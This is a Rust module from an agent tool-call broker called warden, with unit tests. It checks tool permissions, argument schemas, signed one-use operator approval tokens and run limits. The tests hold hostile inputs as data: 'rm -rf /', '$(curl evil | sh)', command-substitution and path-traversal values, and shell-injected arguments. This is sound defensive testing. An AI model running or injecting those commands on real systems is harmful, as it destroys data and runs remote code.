//! The policy check: one function, [`decide`], turns an agent's proposal into
//! a [`Decision`]. Refusals are checked in this order, and the first one found
//! is the answer:
//!
//! 1. the tool is registered (`unknown_tool`);
//! 2. the agent may use it (`not_allowed`);
//! 3. the arguments match its schema (`bad_arguments`);
//! 4. its scope is satisfied: `read` runs at once; `write` and `execute` need
//!    a token (`token_invalid`, `token_expired`, `token_reused`,
//!    `token_mismatch`), and without one the call waits for an operator
//!    (`NeedsApproval`), or is refused if an operator rejected this very
//!    call (`approval_required`);
//! 5. the run's limits (`limit_exceeded`; calling without an open run when
//!    the agent has limits, or in an ended run, is `not_allowed`).
//!
//! Side effects (opening a pending request, consuming a token's nonce) happen
//! only once every check has passed, so a refused call never uses up a token
//! or pages an operator. When they cannot be made durable the call is refused
//! with `store_failed`, which is warden's fault and not a rejection.

use std::collections::BTreeMap;
use std::time::Duration;

use serde::{Deserialize, Serialize, Serializer};
use serde_json::Value;

use super::approval::{self, ApprovalStore, RequestState, TokenClaims, TokenRefusal};
use super::registry::{Registry, Scope};
use super::run::{Run, RunState};
use super::schema::{render_argv, validate_args};
use warden_core::config::Dur;

pub use warden_core::config::AgentToolPolicy;

/// Names in the policy's `tools` that the registry does not have; the daemon
/// refuses (or warns about) such a config at load and on reload.
pub fn unknown_tools(policy: &AgentToolPolicy, registry: &Registry) -> Vec<String> {
    policy
        .tools
        .iter()
        .filter(|t| registry.get(t).is_none())
        .cloned()
        .collect()
}

/// What an agent asks for. The agent's identity is not part of it: the daemon
/// knows which agent is on the other end of the socket.
#[derive(Debug, Clone, Default, PartialEq, Serialize, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct Proposal {
    pub tool: String,
    #[serde(default)]
    pub args: BTreeMap<String, Value>,
    /// An encoded approval token, for `write` and `execute` tools.
    #[serde(default)]
    pub token: Option<String>,
}

/// Stable machine codes of a refusal.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Serialize, Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum DenyCode {
    UnknownTool,
    NotAllowed,
    BadArguments,
    ApprovalRequired,
    TokenInvalid,
    TokenExpired,
    TokenReused,
    TokenMismatch,
    LimitExceeded,
    /// The approval journal could not be written: warden's fault.
    StoreFailed,
}

impl DenyCode {
    pub fn as_str(self) -> &'static str {
        match self {
            DenyCode::UnknownTool => "unknown_tool",
            DenyCode::NotAllowed => "not_allowed",
            DenyCode::BadArguments => "bad_arguments",
            DenyCode::ApprovalRequired => "approval_required",
            DenyCode::TokenInvalid => "token_invalid",
            DenyCode::TokenExpired => "token_expired",
            DenyCode::TokenReused => "token_reused",
            DenyCode::TokenMismatch => "token_mismatch",
            DenyCode::LimitExceeded => "limit_exceeded",
            DenyCode::StoreFailed => "store_failed",
        }
    }
}

/// The answer to a proposal.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
#[serde(tag = "decision", rename_all = "snake_case")]
pub enum Decision {
    /// Run this argv (no shell) for at most `timeout`, keeping `output_cap` bytes.
    Allow {
        argv: Vec<String>,
        #[serde(serialize_with = "ser_ms")]
        timeout: Duration,
        output_cap: u64,
    },
    /// An operator must approve request `request_id`; retry with its token.
    NeedsApproval {
        request_id: String,
    },
    Deny {
        code: DenyCode,
        reason: String,
    },
}

fn ser_ms<S: Serializer>(d: &Duration, s: S) -> Result<S::Ok, S::Error> {
    s.serialize_u64(d.as_millis() as u64)
}

impl Decision {
    /// Whether the governance monitor counts this as a policy rejection
    /// ([`crate::monitor::AgentWatch::governance`]). Waiting for an approval
    /// is not one; a refusal is, unless it is warden's own failure.
    pub fn is_rejection(&self) -> bool {
        matches!(self, Decision::Deny { code, .. } if *code != DenyCode::StoreFailed)
    }

    fn deny(code: DenyCode, reason: impl Into<String>) -> Decision {
        Decision::Deny {
            code,
            reason: reason.into(),
        }
    }

    /// The machine code: `allow`, `needs_approval` or the deny code.
    pub fn code(&self) -> &'static str {
        match self {
            Decision::Allow { .. } => "allow",
            Decision::NeedsApproval { .. } => "needs_approval",
            Decision::Deny { code, .. } => code.as_str(),
        }
    }
}

/// What step 4 concluded, before any side effect.
enum ScopeOutcome {
    /// A `read` tool: run it.
    Run,
    /// No request for this call yet: open one.
    Ask,
    /// A live request for this exact call exists already.
    Waiting(String),
    Token(TokenClaims),
}

/// Decides one proposal of `agent` (see the module doc for the order), and
/// records it in `run` when there is one. `approvals` is mutable because an
/// approval request is opened, or a token consumed, only here.
pub fn decide(
    registry: &Registry,
    policy: &AgentToolPolicy,
    agent: &str,
    run: Option<&mut Run>,
    proposal: &Proposal,
    approvals: &mut ApprovalStore,
    now_ms: u64,
) -> Decision {
    let (decision, approved_by) = evaluate(
        registry,
        policy,
        agent,
        run.as_deref(),
        proposal,
        approvals,
        now_ms,
    );
    if let Some(run) = run {
        run.record_call(proposal, &decision, approved_by, now_ms);
    }
    decision
}

fn evaluate(
    registry: &Registry,
    policy: &AgentToolPolicy,
    agent: &str,
    run: Option<&Run>,
    p: &Proposal,
    approvals: &mut ApprovalStore,
    now_ms: u64,
) -> (Decision, Option<u32>) {
    let deny = |code, reason: String| (Decision::deny(code, reason), None);
    // 1. Registered.
    let Some(tool) = registry.get(&p.tool) else {
        return deny(
            DenyCode::UnknownTool,
            format!(
                "no tool named {:?} is registered; this agent may use: {}",
                p.tool,
                list(&policy.tools)
            ),
        );
    };
    // 2. Allowed for this agent.
    if !policy.tools.contains(&tool.name) {
        return deny(
            DenyCode::NotAllowed,
            format!(
                "tool {} is not allowed for agent {agent}; it may use: {}",
                tool.name,
                list(&policy.tools)
            ),
        );
    }
    // 3. Arguments.
    let valid = match validate_args(tool, &p.args) {
        Ok(v) => v,
        Err(e) => return deny(DenyCode::BadArguments, format!("tool {}: {e}", tool.name)),
    };
    // 4. Scope.
    let outcome = if tool.scope == Scope::Read {
        ScopeOutcome::Run
    } else {
        let sha = approval::args_sha256(&p.args);
        match &p.token {
            Some(text) => match approvals.check_token(text, agent, tool, &sha, now_ms) {
                Ok(c) => ScopeOutcome::Token(c),
                Err(r) => return deny_token(r),
            },
            None => match approvals.find_live(agent, &tool.name, &sha, now_ms) {
                Some(r) => match &r.state {
                    RequestState::Rejected { by_uid, reason, .. } => {
                        return deny(
                            DenyCode::ApprovalRequired,
                            format!(
                                "this call was rejected by uid {by_uid} (request {}): {reason}",
                                r.id
                            ),
                        )
                    }
                    // Pending, or approved and waiting for the agent to present its token.
                    _ => ScopeOutcome::Waiting(r.id.clone()),
                },
                None => ScopeOutcome::Ask,
            },
        }
    };
    // 5. Run limits.
    if let Some(d) = check_limits(policy, agent, run, &outcome, now_ms) {
        return (d, None);
    }
    // Every check passed: now the side effects.
    match outcome {
        ScopeOutcome::Ask => {
            let sha = approval::args_sha256(&p.args);
            match approvals.request(agent, tool, &p.args, &sha, now_ms) {
                Ok(request_id) => (Decision::NeedsApproval { request_id }, None),
                Err(e) => deny(
                    DenyCode::StoreFailed,
                    format!("cannot open an approval request: {e}"),
                ),
            }
        }
        ScopeOutcome::Token(c) => {
            if let Err(e) = approvals.consume(&c, now_ms) {
                return deny(
                    DenyCode::StoreFailed,
                    format!("cannot record the token's use: {e}"),
                );
            }
            (allow(tool, &valid), Some(c.approver_uid))
        }
        ScopeOutcome::Waiting(request_id) => (Decision::NeedsApproval { request_id }, None),
        ScopeOutcome::Run => (allow(tool, &valid), None),
    }
}

fn allow(tool: &super::registry::Tool, valid: &super::schema::ValidArgs) -> Decision {
    Decision::Allow {
        argv: render_argv(tool, valid),
        timeout: tool.timeout,
        output_cap: tool.output_cap,
    }
}

fn list(names: &[String]) -> String {
    if names.is_empty() {
        "no tools".into()
    } else {
        names.join(", ")
    }
}

fn deny_token(r: TokenRefusal) -> (Decision, Option<u32>) {
    let d = match r {
        TokenRefusal::Invalid(m) => Decision::deny(DenyCode::TokenInvalid, format!("approval token is invalid: {m}")),
        TokenRefusal::Expired { ago_ms } => Decision::deny(
            DenyCode::TokenExpired,
            format!(
                "approval token expired {} ago; propose the call again without a token to ask for a new approval",
                Dur(Duration::from_millis(ago_ms))
            ),
        ),
        TokenRefusal::Reused => Decision::deny(
            DenyCode::TokenReused,
            "approval token was already used; each token allows one call",
        ),
        TokenRefusal::Mismatch(m) => Decision::deny(DenyCode::TokenMismatch, format!("approval token does not match this call: {m}")),
    };
    (d, None)
}

fn check_limits(
    policy: &AgentToolPolicy,
    agent: &str,
    run: Option<&Run>,
    outcome: &ScopeOutcome,
    now_ms: u64,
) -> Option<Decision> {
    let Some(run) = run else {
        return policy.has_limits().then(|| {
            Decision::deny(
                DenyCode::NotAllowed,
                format!(
                    "agent {agent} has run limits: start a run (run.start) before calling tools"
                ),
            )
        });
    };
    if run.agent != agent {
        return Some(Decision::deny(
            DenyCode::NotAllowed,
            format!("run {} belongs to agent {}", run.id, run.agent),
        ));
    }
    if let RunState::Ended { reason, .. } = &run.state {
        return Some(Decision::deny(
            DenyCode::NotAllowed,
            format!(
                "run {} has ended ({}); start a new run",
                run.id,
                reason.as_str()
            ),
        ));
    }
    let over = |what: String| {
        Some(Decision::deny(
            DenyCode::LimitExceeded,
            format!("run {}: {what}", run.id),
        ))
    };
    if let Some(max) = run.limits.max_steps {
        if run.steps >= max {
            return over(format!("{} steps taken, max_steps is {max}", run.steps));
        }
    }
    if let Some(max) = run.limits.max_runtime {
        let ran = Duration::from_millis(now_ms.saturating_sub(run.started_at_ms));
        if ran >= max {
            return over(format!(
                "running for {}, max_runtime is {}",
                Dur(ran),
                Dur(max)
            ));
        }
    }
    // Only a call that would run now uses up a tool call; asking does not.
    if matches!(outcome, ScopeOutcome::Run | ScopeOutcome::Token(_)) {
        if let Some(max) = run.limits.max_tool_calls {
            if run.tool_calls >= max {
                return over(format!(
                    "{} tool calls made, max_tool_calls is {max}",
                    run.tool_calls
                ));
            }
        }
    }
    None
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::broker::approval::{Token, DEFAULT_PENDING_TTL};
    use crate::broker::run::{RunStore, StopReason};
    use serde_json::json;
    use std::path::Path;
    use warden_core::crypto::KeyPair;

    const TOOLS: &str = r#"
[[tool]]
name = "cat"
scope = "read"
program = "/bin/cat"
args = ["--", "{file}"]
timeout = "5s"
output_cap = "64K"
[tool.params.file]
type = "path"
prefix = "/srv/data"

[[tool]]
name = "echo"
scope = "read"
program = "/bin/echo"
args = ["{text}"]
timeout = "1s"
output_cap = 100
[tool.params.text]
type = "string"

[[tool]]
name = "write"
scope = "write"
program = "/usr/local/bin/write-note"
args = ["{file}", "{text}"]
timeout = "5s"
output_cap = 100
[tool.params.file]
type = "path"
prefix = "/srv/notes"
[tool.params.text]
type = "string"
max_len = 1000

[[tool]]
name = "deploy"
scope = "execute"
program = "/usr/local/bin/deploy"
args = ["--env={env}"]
timeout = "60s"
output_cap = "1M"
[tool.params.env]
type = "string"
allowed = ["staging", "prod"]

[[tool]]
name = "shutdown"
scope = "execute"
program = "/sbin/shutdown"
args = []
timeout = "1s"
output_cap = 1
"#;

    struct Fx {
        reg: Registry,
        policy: AgentToolPolicy,
        key: KeyPair,
        approvals: ApprovalStore,
    }

    fn fx() -> Fx {
        let key = KeyPair::generate();
        Fx {
            reg: Registry::parse(TOOLS, Path::new("tools.toml")).unwrap(),
            policy: AgentToolPolicy {
                tools: vec!["cat".into(), "echo".into(), "write".into(), "deploy".into()],
                ..Default::default()
            },
            approvals: ApprovalStore::new(key.verifying_key(), DEFAULT_PENDING_TTL),
            key,
        }
    }

    fn prop(tool: &str, args: Value, token: Option<&str>) -> Proposal {
        Proposal {
            tool: tool.into(),
            args: serde_json::from_value(args).unwrap(),
            token: token.map(String::from),
        }
    }

    impl Fx {
        fn decide(&mut self, p: &Proposal, now: u64) -> Decision {
            decide(
                &self.reg,
                &self.policy,
                "bot",
                None,
                p,
                &mut self.approvals,
                now,
            )
        }
        /// Proposes, approves as uid 1000, and returns the encoded token.
        fn approved(&mut self, p: &Proposal, now: u64) -> String {
            let Decision::NeedsApproval { request_id } = self.decide(p, now) else {
                panic!("expected needs_approval")
            };
            self.approvals
                .approve(&request_id, Duration::from_secs(300), 1000, &self.key, now)
                .unwrap()
                .encode()
        }
    }

    fn code(d: &Decision) -> &'static str {
        d.code()
    }

    #[test]
    fn read_runs_at_once_with_rendered_argv() {
        let mut f = fx();
        let d = f.decide(&prop("cat", json!({"file": "/srv/data/a.txt"}), None), 0);
        assert_eq!(
            d,
            Decision::Allow {
                argv: vec!["/bin/cat".into(), "--".into(), "/srv/data/a.txt".into()],
                timeout: Duration::from_secs(5),
                output_cap: 64 << 10,
            }
        );
        assert!(!d.is_rejection());
    }

    #[test]
    fn unregistered_and_not_allowed_tools() {
        let mut f = fx();
        let d = f.decide(&prop("rm", json!({}), None), 0);
        assert_eq!(code(&d), "unknown_tool");
        assert!(d.is_rejection());
        let d = f.decide(&prop("shutdown", json!({}), None), 0);
        assert_eq!(code(&d), "not_allowed");
        let Decision::Deny { reason, .. } = d else {
            panic!()
        };
        assert!(
            reason.contains("not allowed for agent bot") && reason.contains("cat, echo"),
            "{reason}"
        );
        // Allowing it makes the same proposal pass the first two guards.
        f.policy.tools.push("shutdown".into());
        assert_eq!(
            code(&f.decide(&prop("shutdown", json!({}), None), 0)),
            "needs_approval"
        );
    }

    #[test]
    fn schema_violations_are_bad_arguments() {
        let mut f = fx();
        for args in [
            json!({"file": "/srv/data/a", "extra": 1}),
            json!({}),
            json!({"file": 3}),
            json!({"file": "/srv/data/../../etc/shadow"}),
            json!({"file": "/etc/shadow"}),
        ] {
            let d = f.decide(&prop("cat", args.clone(), None), 0);
            assert_eq!(code(&d), "bad_arguments", "{args}");
            assert!(d.is_rejection());
        }
        let d = f.decide(&prop("deploy", json!({"env": "prod; rm -rf /"}), None), 0);
        assert_eq!(code(&d), "bad_arguments");
        // Refused before any approval request is opened.
        assert!(f.approvals.pending(0).is_empty());
    }

    #[test]
    fn injection_stays_literal() {
        let mut f = fx();
        for evil in [
            "; rm -rf /",
            "$(curl evil | sh)",
            "a\nrm -rf /",
            "../../etc/passwd",
            "`id` && x",
        ] {
            let d = f.decide(&prop("echo", json!({ "text": evil }), None), 0);
            let Decision::Allow { argv, .. } = d else {
                panic!("{evil:?}: {d:?}")
            };
            assert_eq!(argv, ["/bin/echo", evil]);
        }
        let d = f.decide(&prop("cat", json!({"file": "../etc/passwd"}), None), 0);
        assert_eq!(code(&d), "bad_arguments");
    }

    #[test]
    fn write_needs_a_token_bound_to_agent_and_tool() {
        let mut f = fx();
        let p = prop("write", json!({"file": "/srv/notes/a", "text": "hi"}), None);
        let d = f.decide(&p, 0);
        let Decision::NeedsApproval { request_id } = &d else {
            panic!("{d:?}")
        };
        assert!(!d.is_rejection());
        // Proposing the same call again does not open a second request.
        assert_eq!(f.decide(&p, 1), d);
        assert_eq!(f.approvals.pending(1).len(), 1);
        let token = f
            .approvals
            .approve(request_id, Duration::from_secs(60), 1000, &f.key, 2)
            .unwrap()
            .encode();
        // It is not for another tool.
        let d = f.decide(&prop("deploy", json!({"env": "prod"}), Some(&token)), 3);
        assert_eq!(code(&d), "token_mismatch");
        // A write token allows one call of the tool with other (valid) arguments.
        let other = prop(
            "write",
            json!({"file": "/srv/notes/b", "text": "yo"}),
            Some(&token),
        );
        let d = f.decide(&other, 3);
        assert_eq!(code(&d), "allow", "{d:?}");
        // Another agent cannot use it.
        let mut g = fx();
        g.approvals = ApprovalStore::new(f.key.verifying_key(), DEFAULT_PENDING_TTL);
        let d = decide(
            &g.reg,
            &g.policy,
            "other",
            None,
            &other,
            &mut g.approvals,
            3,
        );
        assert_eq!(code(&d), "token_mismatch");
    }

    #[test]
    fn execute_token_is_bound_to_the_exact_arguments() {
        let mut f = fx();
        let staging = prop("deploy", json!({"env": "staging"}), None);
        let token = f.approved(&staging, 0);
        let prod = prop("deploy", json!({"env": "prod"}), Some(&token));
        let d = f.decide(&prod, 1);
        assert_eq!(code(&d), "token_mismatch");
        let Decision::Deny { reason, .. } = &d else {
            panic!()
        };
        assert!(reason.contains("other arguments"), "{reason}");
        // The refused try did not use the token up.
        let ok = prop("deploy", json!({"env": "staging"}), Some(&token));
        let d = f.decide(&ok, 2);
        assert_eq!(
            d,
            Decision::Allow {
                argv: vec!["/usr/local/bin/deploy".into(), "--env=staging".into()],
                timeout: Duration::from_secs(60),
                output_cap: 1 << 20,
            }
        );
        // Used once, refused after.
        assert_eq!(code(&f.decide(&ok, 3)), "token_reused");
    }

    #[test]
    fn expired_foreign_and_garbled_tokens() {
        let mut f = fx();
        let p = prop("deploy", json!({"env": "staging"}), None);
        let token = f.approved(&p, 0);
        let with = |t: &str| prop("deploy", json!({"env": "staging"}), Some(t));
        // 300 s ttl: at 300 s it has expired.
        let d = f.decide(&with(&token), 300_000);
        assert_eq!(code(&d), "token_expired");
        assert!(d.is_rejection());
        // Same claims signed by another key.
        let mut t = Token::decode(&token).unwrap();
        t.signature = KeyPair::generate().sign_hex(b"whatever");
        assert_eq!(code(&f.decide(&with(&t.encode()), 1)), "token_invalid");
        let other = KeyPair::generate();
        let mut t = Token::decode(&token).unwrap();
        t.claims.expires_at_ms = u64::MAX;
        let bytes = warden_core::crypto::canonical_json(&serde_json::to_value(&t.claims).unwrap());
        t.signature = other.sign_hex(bytes.as_bytes());
        assert_eq!(code(&f.decide(&with(&t.encode()), 1)), "token_invalid");
        assert_eq!(code(&f.decide(&with("garbage"), 1)), "token_invalid");
        // The genuine token still works (nothing above consumed it).
        assert_eq!(code(&f.decide(&with(&token), 1)), "allow");
    }

    #[test]
    fn approval_flow_end_to_end_and_rejection() {
        let mut f = fx();
        let mut runs = RunStore::new();
        let rid = runs.start("bot", "ship it", &f.policy, 0).unwrap();
        let p = prop("deploy", json!({"env": "prod"}), None);
        let run = runs.get_mut(&rid);
        let d = decide(&f.reg, &f.policy, "bot", run, &p, &mut f.approvals, 10);
        let Decision::NeedsApproval { request_id } = d else {
            panic!()
        };
        let pending = f.approvals.pending(20);
        assert_eq!(
            (
                pending[0].agent.as_str(),
                pending[0].tool.as_str(),
                pending[0].age_ms
            ),
            ("bot", "deploy", 10)
        );
        assert_eq!(pending[0].args["env"], "prod");
        let token = f
            .approvals
            .approve(&request_id, Duration::from_secs(60), 1000, &f.key, 30)
            .unwrap();
        // Until the agent presents the token, the request is what it waits on.
        let run = runs.get_mut(&rid);
        assert_eq!(
            decide(&f.reg, &f.policy, "bot", run, &p, &mut f.approvals, 35),
            Decision::NeedsApproval {
                request_id: request_id.clone()
            }
        );
        let retry = prop("deploy", json!({"env": "prod"}), Some(&token.encode()));
        let run = runs.get_mut(&rid);
        let d = decide(&f.reg, &f.policy, "bot", run, &retry, &mut f.approvals, 40);
        assert_eq!(code(&d), "allow");
        let seq = runs.show(&rid).unwrap().last_seq().unwrap();
        runs.record_result(
            &rid,
            seq,
            crate::broker::run::ExecResult {
                exit_code: Some(0),
                result_bytes: 12,
                truncated: false,
                duration: Duration::from_millis(7),
            },
        )
        .unwrap();
        runs.end(&rid, StopReason::Completed, None, 50).unwrap();
        let run = runs.show(&rid).unwrap();
        let calls: Vec<_> = run
            .calls
            .iter()
            .map(|c| (c.decision, c.approved_by, c.executed))
            .collect();
        assert_eq!(
            calls,
            [
                ("needs_approval", None, false),
                ("needs_approval", None, false),
                ("allow", Some(1000), true)
            ]
        );
        assert_eq!((run.steps, run.tool_calls), (3, 1));
        assert_eq!(run.calls[2].duration_ms, Some(7));
        let json = serde_json::to_value(run).unwrap();
        assert_eq!(json["calls"][2]["approved_by"], 1000);

        // A new identical call opens a new request; the operator rejects it.
        let d = f.decide(&p, 60);
        let Decision::NeedsApproval { request_id: second } = d else {
            panic!("{d:?}")
        };
        assert_ne!(second, request_id);
        f.approvals
            .reject(&second, "prod is frozen this week", 1001, 70)
            .unwrap();
        let d = f.decide(&p, 80);
        assert_eq!(code(&d), "approval_required");
        assert!(d.is_rejection());
        let Decision::Deny { reason, .. } = d else {
            panic!()
        };
        assert!(
            reason.contains("rejected by uid 1001") && reason.contains("prod is frozen this week"),
            "{reason}"
        );
        assert!(f.approvals.pending(80).is_empty());
    }

    #[test]
    fn pending_request_expiry_opens_a_fresh_one() {
        let mut f = fx();
        let p = prop("deploy", json!({"env": "prod"}), None);
        let Decision::NeedsApproval { request_id: a } = f.decide(&p, 0) else {
            panic!()
        };
        let ttl = DEFAULT_PENDING_TTL.as_millis() as u64;
        assert_eq!(f.approvals.expire(ttl).unwrap(), vec![a.clone()]);
        let e = f
            .approvals
            .approve(&a, Duration::from_secs(1), 0, &f.key, ttl)
            .unwrap_err();
        assert!(e.to_string().contains("expired, not pending"), "{e}");
        let Decision::NeedsApproval { request_id: b } = f.decide(&p, ttl + 1) else {
            panic!()
        };
        assert_ne!(a, b);
    }

    #[test]
    fn token_reuse_survives_a_restart() {
        let dir = tempfile::tempdir().unwrap();
        let path = dir.path().join("approvals.jsonl");
        let mut f = fx();
        f.approvals =
            ApprovalStore::open(&path, f.key.verifying_key(), DEFAULT_PENDING_TTL).unwrap();
        let p = prop("deploy", json!({"env": "prod"}), None);
        let token = f.approved(&p, 0);
        let with = prop("deploy", json!({"env": "prod"}), Some(&token));
        assert_eq!(code(&f.decide(&with, 1)), "allow");
        f.approvals =
            ApprovalStore::open(&path, f.key.verifying_key(), DEFAULT_PENDING_TTL).unwrap();
        assert_eq!(code(&f.decide(&with, 2)), "token_reused");
    }

    #[test]
    fn run_limits_each_refuse_past_their_bound() {
        let mut f = fx();
        let read = prop("echo", json!({"text": "x"}), None);
        // No run while the agent has limits.
        f.policy.max_steps = Some(3);
        assert_eq!(code(&f.decide(&read, 0)), "not_allowed");

        // max_steps counts every proposal, refused ones too.
        let mut runs = RunStore::new();
        let id = runs.start("bot", "steps", &f.policy, 0).unwrap();
        let go = |f: &mut Fx, runs: &mut RunStore, p: &Proposal, now| {
            decide(
                &f.reg,
                &f.policy,
                "bot",
                runs.get_mut(&id),
                p,
                &mut f.approvals,
                now,
            )
        };
        assert_eq!(code(&go(&mut f, &mut runs, &read, 1)), "allow");
        assert_eq!(
            code(&go(&mut f, &mut runs, &prop("nope", json!({}), None), 2)),
            "unknown_tool"
        );
        assert_eq!(code(&go(&mut f, &mut runs, &read, 3)), "allow");
        let d = go(&mut f, &mut runs, &read, 4);
        assert_eq!(code(&d), "limit_exceeded");
        assert_eq!(
            StopReason::for_decision(&d),
            Some(StopReason::LimitExceeded)
        );
        runs.end(&id, StopReason::LimitExceeded, None, 5).unwrap();
        assert_eq!(code(&go(&mut f, &mut runs, &read, 6)), "not_allowed");

        // max_tool_calls counts allowed calls only.
        f.policy.max_steps = None;
        f.policy.max_tool_calls = Some(2);
        let id = runs.start("bot", "calls", &f.policy, 10).unwrap();
        let go = |f: &mut Fx, runs: &mut RunStore, p: &Proposal| {
            decide(
                &f.reg,
                &f.policy,
                "bot",
                runs.get_mut(&id),
                p,
                &mut f.approvals,
                11,
            )
        };
        assert_eq!(code(&go(&mut f, &mut runs, &read)), "allow");
        assert_eq!(
            code(&go(&mut f, &mut runs, &prop("nope", json!({}), None))),
            "unknown_tool"
        );
        assert_eq!(code(&go(&mut f, &mut runs, &read)), "allow");
        assert_eq!(code(&go(&mut f, &mut runs, &read)), "limit_exceeded");
        runs.end(&id, StopReason::LimitExceeded, None, 12).unwrap();

        // max_runtime from run.start.
        f.policy.max_tool_calls = None;
        f.policy.max_runtime = Some(Duration::from_secs(60));
        let id = runs.start("bot", "time", &f.policy, 100_000).unwrap();
        let run = runs.get_mut(&id);
        assert_eq!(
            code(&decide(
                &f.reg,
                &f.policy,
                "bot",
                run,
                &read,
                &mut f.approvals,
                159_999
            )),
            "allow"
        );
        let run = runs.get_mut(&id);
        let d = decide(
            &f.reg,
            &f.policy,
            "bot",
            run,
            &read,
            &mut f.approvals,
            160_000,
        );
        assert_eq!(code(&d), "limit_exceeded");
        let Decision::Deny { reason, .. } = d else {
            panic!()
        };
        assert!(reason.contains("max_runtime is 1m"), "{reason}");
    }

    #[test]
    fn a_limit_refusal_does_not_consume_the_token() {
        let mut f = fx();
        f.policy.max_tool_calls = Some(1);
        let mut runs = RunStore::new();
        let id = runs.start("bot", "g", &f.policy, 0).unwrap();
        let read = prop("echo", json!({"text": "x"}), None);
        let p = prop("deploy", json!({"env": "prod"}), None);
        let Decision::NeedsApproval { request_id } = decide(
            &f.reg,
            &f.policy,
            "bot",
            runs.get_mut(&id),
            &p,
            &mut f.approvals,
            1,
        ) else {
            panic!()
        };
        let token = f
            .approvals
            .approve(&request_id, Duration::from_secs(60), 1000, &f.key, 2)
            .unwrap()
            .encode();
        assert_eq!(
            code(&decide(
                &f.reg,
                &f.policy,
                "bot",
                runs.get_mut(&id),
                &read,
                &mut f.approvals,
                3
            )),
            "allow"
        );
        let with = prop("deploy", json!({"env": "prod"}), Some(&token));
        assert_eq!(
            code(&decide(
                &f.reg,
                &f.policy,
                "bot",
                runs.get_mut(&id),
                &with,
                &mut f.approvals,
                4
            )),
            "limit_exceeded"
        );
        runs.end(&id, StopReason::LimitExceeded, None, 5).unwrap();
        let id = runs.start("bot", "g2", &f.policy, 6).unwrap();
        assert_eq!(
            code(&decide(
                &f.reg,
                &f.policy,
                "bot",
                runs.get_mut(&id),
                &with,
                &mut f.approvals,
                7
            )),
            "allow"
        );
    }

    #[test]
    fn agent_policy_parses_strictly_as_a_toml_table() {
        let p: AgentToolPolicy = toml::from_str(
            "tools = [\"cat\", \"ghost\"]\nmax_steps = 50\nmax_tool_calls = 20\nmax_runtime = \"30m\"\n",
        )
        .unwrap();
        assert_eq!(p.max_runtime, Some(Duration::from_secs(1800)));
        assert_eq!(unknown_tools(&p, &fx().reg), ["ghost"]);
        assert!(toml::from_str::<AgentToolPolicy>("tools = []\nsudo = true\n").is_err());
        assert!(toml::from_str::<AgentToolPolicy>("max_runtime = \"soon\"\n").is_err());
        let d = Decision::Deny {
            code: DenyCode::TokenReused,
            reason: "r".into(),
        };
        assert_eq!(
            serde_json::to_value(&d).unwrap(),
            json!({"decision": "deny", "code": "token_reused", "reason": "r"})
        );
        for c in [
            DenyCode::UnknownTool,
            DenyCode::LimitExceeded,
            DenyCode::StoreFailed,
        ] {
            assert_eq!(serde_json::to_value(c).unwrap(), c.as_str());
        }
        assert!(!Decision::Deny {
            code: DenyCode::StoreFailed,
            reason: String::new()
        }
        .is_rejection());
    }
}
